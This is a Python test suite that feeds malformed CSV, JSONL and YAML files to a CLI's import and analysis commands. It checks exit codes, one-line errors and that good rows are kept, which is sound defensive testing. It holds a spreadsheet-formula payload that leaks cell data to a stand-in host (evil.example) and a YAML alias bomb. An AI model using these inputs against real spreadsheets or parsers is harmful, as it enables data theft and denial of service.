"""A corpus of malformed files through every command that reads a user file, by the real CLI.

Each file gets a one-line error with the README's exit code (2 invalid input, 3 not found) or
rejected rows (exit 2), never a traceback, and the good rows around the bad ones are stored.
The corpus is generated here; row-level cases run on every backend, whole-file cases on SQLite.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
from collections.abc import Callable
from importlib.resources import files
from pathlib import Path

import pytest
from sqlalchemy import select

from trustdesk.fraud.models import FraudLabel, FraudTransaction

BIG = 20 * 1024 * 1024  # over the 16 MiB a value may have
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _ok(result) -> None:
    assert "Traceback" not in result.output, result.output


def _one_line_error(result, code: int) -> None:
    _ok(result)
    assert result.exit_code == code, result.output
    lines = result.stderr.strip().splitlines()  # a progress line may come first
    assert lines[-1].startswith("error: "), result.stderr
    assert not [line for line in lines[:-1] if not line.startswith("reading ")], result.stderr


def _row_lines(result) -> list[str]:
    """stderr of an import with rejected rows: one line per row (a summary line may follow)."""
    lines = result.stderr.strip().splitlines()
    assert lines and all(
        line.startswith(("row ", "… and", "rejected rows written")) for line in lines
    ), result.stderr
    return lines


# --- row-level corpus: good rows around bad ones -------------------------------------------


def _csv_line(values: list[str]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(values)
    return buffer.getvalue().encode()


Maker = Callable[[int], list[str]]


def _csv_corpus(header: list[str], good: Maker, invalid: Maker) -> tuple[bytes, list[int]]:
    """Good rows 1..9 around every kind of broken row; returns the bytes and the good keys.

    `invalid(k)`: a well-formed row that fails validation (its id is replaced by a formula)."""
    width = len(header)

    def bad(values: list[str]) -> bytes:
        return ",".join(values).encode()

    first = good(90)  # a row whose quote opens and never closes: swallows the rest of the file
    unclosed = bad([first[0], '"' + first[1], *first[2:]]) + b"\n"
    second = good(91)  # a quote that closes on a later row, in the middle of a field
    reclosed = bad([second[0], '"' + second[1], *second[2:]]) + b"\n"
    body = [
        _csv_line(good(1)),
        unclosed,
        _csv_line(good(2)),
        reclosed,
        bad([*good(3)[:-1], '"' + good(3)[-1] + '"']) + b"\n",  # a quoted last value
        _csv_line([*good(92)[:-1], "x" * BIG]),  # a 20 MB cell
        _csv_line(good(4)),
        bad([*good(93)[:-1], "nul\x00here"]) + b"\n",  # a NUL byte
        _csv_line(good(5)),
        bad(good(94)).replace(b"94", b"94\xe9", 1) + b"\n",  # latin-1
        _csv_line(["x"] * 1_000_000),  # a million columns
        _csv_line(good(6)),
        _csv_line(good(95)[:1]),  # too few fields
        _csv_line([*good(96), "extra"]),  # too many
        bytes(random.Random(7).randrange(1, 256) for _ in range(300)).replace(b"\n", b" ")
        + b"\n",  # binary garbage (no NUL, no line break)
        _csv_line(good(7)),
        _csv_line([FORMULA, *invalid(97)[1:]]),  # a formula id on a row that is bad too
        _csv_line(good(8)),
        b"\n",  # a blank line is no row
        _csv_line(good(9)),
    ]
    assert width == len(good(1))
    return _csv_line(header) + b"".join(body), list(range(1, 10))


def _nested(depth: int) -> object:
    value: object = "x"
    for _ in range(depth):
        value = [value]
    return value


def _jsonl_corpus(good: Callable[[int], dict[str, str]]) -> tuple[bytes, list[int]]:
    def line(value: object) -> bytes:
        return json.dumps(value).encode() + b"\n"

    first = good(90)
    key = next(iter(first))
    last = list(first)[-1]
    body = [
        line(good(1)),
        b"[" * 100_000 + b"]" * 100_000 + b"\n",  # nested past the recursion limit
        line({**good(91), last: _nested(40)}),  # nested deeper than any column needs
        line(good(2)),
        line({**good(92), last: "x" * BIG}),  # a 20 MB value
        line({**good(93), last: "nul\u0000here"}),  # a NUL escape (PostgreSQL refuses NULs)
        line(good(3)).replace(b"}", b', "bad": "\\ud800"}'),  # a lone surrogate
        line(good(4)),
        b'{"' + key.encode() + b'": NaN}\n',
        b'{"' + key.encode() + b'": ' + b"9" * 5000 + b"}\n",  # an int over 4300 digits
        line(["not", "an", "object"]),
        b"{not json\n",
        line(good(5)).replace(b'": "', b'": "\xe9', 1),  # invalid UTF-8
        line(good(6)),
        b"\x00\x01\x02 binary\n",
        line(good(7)),
    ]
    return b"".join(body), [1, 2, 4, 6, 7]


def _customer(k: int) -> list[str]:
    return [f"c{k}", f"Name {k}", f"c{k}@example.com", "retail"]


def _feedback(k: int) -> list[str]:
    return [f"f{k}", f"Good service number {k}", "2024-01-01T00:00:00Z"]


def _payment(k: int) -> list[str]:
    return [f"t{k}", "2024-03-01T10:00:00Z", "cust1", "term1", "12.00"]


_CUSTOMER_COLUMNS = ["external_id", "name", "email", "segment"]
_FEEDBACK_COLUMNS = ["external_id", "text", "at"]
_PAYMENT_COLUMNS = ["transaction_id", "at", "customer_id", "terminal_id", "amount"]


def _customers_stored(cli) -> set[str]:
    listed = cli("customers", "list", "--json", "--limit", "500")
    return {item["external_id"] for item in json.loads(listed.stdout)["items"]}


def _feedback_stored(cli) -> set[str]:
    listed = cli("feedback", "list", "--source", "corpus", "--json", "--limit", "500")
    return {item["external_id"] for item in json.loads(listed.stdout)["items"]}


def _payments_stored(platform) -> set[str]:
    with platform.db.reading() as session:
        return set(session.scalars(select(FraudTransaction.transaction_id)))


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_customer_import_rejects_each_broken_row_and_stores_every_good_one(cli, tmp_path, fmt):
    path = tmp_path / f"customers.{fmt}"
    if fmt == "csv":
        data, good = _csv_corpus(
            _CUSTOMER_COLUMNS, _customer, lambda k: [f"c{k}", "Name", "not-an-email", "retail"]
        )
    else:
        data, good = _jsonl_corpus(
            lambda k: dict(zip(_CUSTOMER_COLUMNS, _customer(k), strict=True))
        )
    path.write_bytes(data)
    result = cli("customers", "import", str(path))
    _ok(result)
    assert result.exit_code == 2
    assert _customers_stored(cli) == {f"c{k}" for k in good}
    assert len(_row_lines(result)) >= 10


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_feedback_import_rejects_each_broken_row_and_stores_every_good_one(cli, tmp_path, fmt):
    path = tmp_path / f"feedback.{fmt}"
    if fmt == "csv":
        data, good = _csv_corpus(
            _FEEDBACK_COLUMNS, _feedback, lambda k: [*_feedback(k)[:1], "", "2024-01-01T00:00:00Z"]
        )
    else:
        data, good = _jsonl_corpus(
            lambda k: dict(zip(_FEEDBACK_COLUMNS, _feedback(k), strict=True))
        )
    path.write_bytes(data)
    result = cli("feedback", "import", str(path), "--source", "corpus", "--no-analyse")
    _ok(result)
    assert result.exit_code == 2
    assert _feedback_stored(cli) == {f"f{k}" for k in good}
    rejects = path.with_name(path.name + ".rejects.csv")
    with rejects.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) - 1 >= 10
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if fmt == "csv":
        assert "'" + FORMULA in cells  # the formula id is kept, as text


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_payment_import_rejects_each_broken_row_and_stores_every_good_one(
    cli, platform, tmp_path, fmt
):
    path = tmp_path / f"payments.{fmt}"
    if fmt == "csv":
        data, good = _csv_corpus(_PAYMENT_COLUMNS, _payment, lambda k: [*_payment(k)[:-1], "-3.00"])
    else:
        data, good = _jsonl_corpus(lambda k: dict(zip(_PAYMENT_COLUMNS, _payment(k), strict=True)))
    path.write_bytes(data)
    result = cli("fraud", "import", "--transactions", str(path))
    _ok(result)
    assert result.exit_code == 2  # bad rows: invalid input, as the README says
    assert _payments_stored(platform) == {f"t{k}" for k in good}
    assert len(_row_lines(result)) >= 10


def test_label_import_rejects_each_broken_row_and_stores_every_good_one(cli, platform, tmp_path):
    payments = tmp_path / "payments.csv"
    keys = [*range(1, 10), *range(90, 98)]
    payments.write_bytes(
        _csv_line(_PAYMENT_COLUMNS) + b"".join(_csv_line(_payment(k)) for k in keys)
    )
    assert cli("fraud", "import", "--transactions", str(payments)).exit_code == 0
    path = tmp_path / "labels.csv"
    data, good = _csv_corpus(
        ["transaction_id", "label"], lambda k: [f"t{k}", "fraud"], lambda k: [f"t{k}", "maybe"]
    )
    path.write_bytes(data)
    result = cli("fraud", "labels", "import", str(path))
    _ok(result)
    assert result.exit_code == 2
    with platform.db.reading() as session:
        labelled = set(
            session.scalars(
                select(FraudTransaction.transaction_id).join(
                    FraudLabel, FraudLabel.transaction_pk == FraudTransaction.id
                )
            )
        )
    assert labelled == {f"t{k}" for k in good}
    assert len(_row_lines(result)) >= 10


def test_an_unclosed_quote_no_longer_swallows_the_next_customer(cli, tmp_path):
    path = tmp_path / "customers.csv"
    path.write_text(
        "external_id,name,email\n"
        'C1,"Ada Lovelace,ada@example.com\n'
        "C2,Charles Babbage,charles@example.com\n"
        "C3,Mary Somerville,mary@example.com\n"
    )
    result = cli("customers", "import", str(path))
    assert result.exit_code == 2
    assert _customers_stored(cli) == {"C2", "C3"}
    assert _row_lines(result) == [
        "row 1: a quote is not closed where it should be (unexpected end of data) (lines 2-4)"
    ]


# --- whole-file corpus: one line, the documented exit code -----------------------------------


def _garbage(n: int) -> bytes:
    return bytes(random.Random(n).randrange(256) for _ in range(n))


def _write_tabular(kind: str, tmp_path: Path, header: str) -> Path:
    """One malformed file of `kind`; `header` is the command's own (good) CSV header."""
    rows = {
        "header only": header + "\n",
    }
    path = tmp_path / "input.csv"
    match kind:
        case "missing":
            return tmp_path / "nothing-here.csv"
        case "directory":
            path = tmp_path / "a-folder.csv"
            path.mkdir()
        case "empty":
            path.write_bytes(b"")
        case "header only":
            path.write_text(rows[kind])
        case "utf-16 with BOM":
            path.write_text(header + "\n", encoding="utf-16")
        case "utf-16 without BOM":
            path.write_bytes((header + "\n").encode("utf-16-le"))
        case "latin-1 header":
            path.write_bytes(header.encode() + ",pr\xe9nom\n".encode("latin-1"))
        case "binary garbage":
            path.write_bytes(_garbage(4096))
        case "not gzip":
            path = tmp_path / "input.csv.gz"
            path.write_bytes(_garbage(512))
        case "truncated gzip":
            path = tmp_path / "input.csv.gz"
            path.write_bytes(gzip.compress((header + "\n").encode() + _garbage(100_000))[:2000])
        case "a million columns":
            path.write_text(header + "," + ",".join(f"c{i}" for i in range(1_000_000)) + "\n")
        case "columns named twice":
            path.write_text(header + "," + header.split(",")[0] + "\n")
        case "unknown file type":
            path = tmp_path / "input.xlsx"
            path.write_bytes(_garbage(256))
    return path


_WHOLE_FILE = {
    "missing": (3,),
    "directory": (2,),
    "empty": (2,),
    "header only": (0, 2),  # nothing to store: commands that need rows say so
    "utf-16 with BOM": (2,),
    "utf-16 without BOM": (2,),
    "latin-1 header": (2,),
    "binary garbage": (2,),
    "not gzip": (2,),
    "truncated gzip": (0, 2),
    "a million columns": (0, 2),
    "columns named twice": (0, 2),
    "unknown file type": (2,),
}

_SAMPLE = ("missing", "directory", "empty", "utf-16 with BOM", "binary garbage", "truncated gzip")

_FILE_COMMANDS: dict[str, tuple[str, list[str]]] = {
    "customers import": (",".join(_CUSTOMER_COLUMNS), ["customers", "import", "{file}"]),
    "feedback import": (
        ",".join(_FEEDBACK_COLUMNS),
        ["feedback", "import", "{file}", "--source", "corpus", "--no-analyse"],
    ),
    "fraud import": (",".join(_PAYMENT_COLUMNS), ["fraud", "import", "--transactions", "{file}"]),
    "fraud labels import": ("transaction_id,label", ["fraud", "labels", "import", "{file}"]),
    "feedback analyze": ("text", ["feedback", "analyze", "{file}", "--output", "{out}/a.csv"]),
    "model train": (
        "text,label",
        [
            "model",
            "train",
            "--task",
            "sentiment",
            "--data",
            "{file}",
            "--text-column",
            "text",
            "--label-column",
            "label",
            "--out",
            "{out}/model",
        ],
    ),
    "model predict": (
        "text",
        ["model", "predict", "{file}", "--model", "{model}", "--output", "{out}/p.csv"],
    ),
    "fraud backtest": (
        "transaction_id,tx_datetime,customer_id,terminal_id,tx_amount,tx_fraud",
        [
            "fraud",
            "backtest",
            "--transactions",
            "{file}",
            "--train-start",
            "2018-07-25",
            "--output",
            "{out}/s.csv",
        ],
    ),
    "fraud train": (
        "transaction_id,tx_datetime,customer_id,terminal_id,tx_amount,tx_fraud",
        ["fraud", "train", "--transactions", "{file}"],
    ),
}


def _args(template: list[str], file: Path, out: Path) -> list[str]:
    model = files("trustdesk.feedback") / "default_models" / "sentiment"
    return [a.format(file=file, out=out, model=model) for a in template]


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("command", list(_FILE_COMMANDS))
def test_every_malformed_file_gets_one_line_and_its_exit_code(cli, tmp_path, command):
    header, template = _FILE_COMMANDS[command]
    # The imports share one reader (the whole corpus); the other commands get a sample of it.
    kinds = _WHOLE_FILE if command.endswith(" import") else _SAMPLE
    for kind in kinds:
        codes = _WHOLE_FILE[kind]
        folder = tmp_path / kind.replace(" ", "-")
        folder.mkdir()
        result = cli(*_args(template, _write_tabular(kind, folder, header), folder))
        _ok(result)
        assert result.exit_code in codes, (kind, result.output)
        if result.exit_code in (0, 2) and result.stderr.strip().startswith("row "):
            _row_lines(result)  # the file was read: its bad rows are named one per line
        elif result.exit_code:
            _one_line_error(result, result.exit_code)


def _write_document(kind: str, tmp_path: Path) -> Path:
    path = tmp_path / "input.yaml"
    match kind:
        case "missing":
            return tmp_path / "nothing-here.yaml"
        case "directory":
            path = tmp_path / "a-folder.yaml"
            path.mkdir()
        case "empty":
            path.write_bytes(b"")
        case "utf-16":
            path.write_text("rules: []\n", encoding="utf-16")
        case "latin-1":
            path.write_bytes("rules: []\n# r\xe9sum\xe9\n".encode("latin-1"))
        case "NUL":
            path.write_bytes(b"rules: []\n\x00\n")
        case "binary garbage":
            path.write_bytes(_garbage(4096))
        case "deep nesting":
            path.write_text("rules: " + "[" * 50_000 + "]" * 50_000 + "\n")
        case "alias bomb":
            lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
            lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
            path.write_text("\n".join(lines) + "\nrules: *a8\n")
        case "too large":
            path.write_text("rules: []\n" + "# padding\n" * 600_000)
        case "formula strings":
            path.write_text('rules: [{name: "=HYPERLINK(1)", when: "@x", action: "+y"}]\n')
    return path


_DOCUMENT_KINDS = {
    "missing": 3,
    "directory": 2,
    "empty": 2,
    "utf-16": 2,
    "latin-1": 2,
    "NUL": 2,
    "binary garbage": 2,
    "deep nesting": 2,
    "alias bomb": 2,
    "too large": 2,
    "formula strings": 2,
}


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize(
    "command", [["fraud", "rules", "load"], ["privacy", "datamap", "load"]], ids=" ".join
)
def test_every_malformed_yaml_file_gets_one_line_and_its_exit_code(cli, tmp_path, command):
    for kind, code in _DOCUMENT_KINDS.items():
        folder = tmp_path / kind.replace(" ", "-")
        folder.mkdir()
        result = cli(*command, str(_write_document(kind, folder)))
        _one_line_error(result, code)


@pytest.mark.parametrize("backend", ["sqlite"])
def test_an_output_path_that_cannot_be_written_gets_one_line_and_stores_nothing(cli, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("external_id,text,at\nf1,Fine,2024-01-01T00:00:00Z\nf2,,2024-01-01\n")
    missing_dir = tmp_path / "no" / "such" / "out.csv"
    _one_line_error(cli("feedback", "analyze", str(source), "--output", str(missing_dir)), 3)
    _one_line_error(cli("feedback", "analyze", str(source), "--output", str(tmp_path)), 2)
    rejects_into_a_folder = cli(
        "feedback", "import", str(source), "--source", "corpus", "--rejects", str(tmp_path)
    )
    _one_line_error(rejects_into_a_folder, 2)
    assert _feedback_stored(cli) == set()


@pytest.mark.parametrize("backend", ["sqlite"])
def test_a_malformed_consent_policy_file_is_a_configuration_error(cli, tmp_path, monkeypatch):
    for kind in ("missing", "directory", "latin-1", "binary garbage", "deep nesting", "alias bomb"):
        folder = tmp_path / kind.replace(" ", "-")
        folder.mkdir()
        monkeypatch.setenv("TRUSTDESK_CONSENT_POLICY_FILE", str(_write_document(kind, folder)))
        check = ["consent", "check", "--customer", "C1", "--purpose", "marketing"]
        _one_line_error(cli(*check, "--channel", "email"), 8)
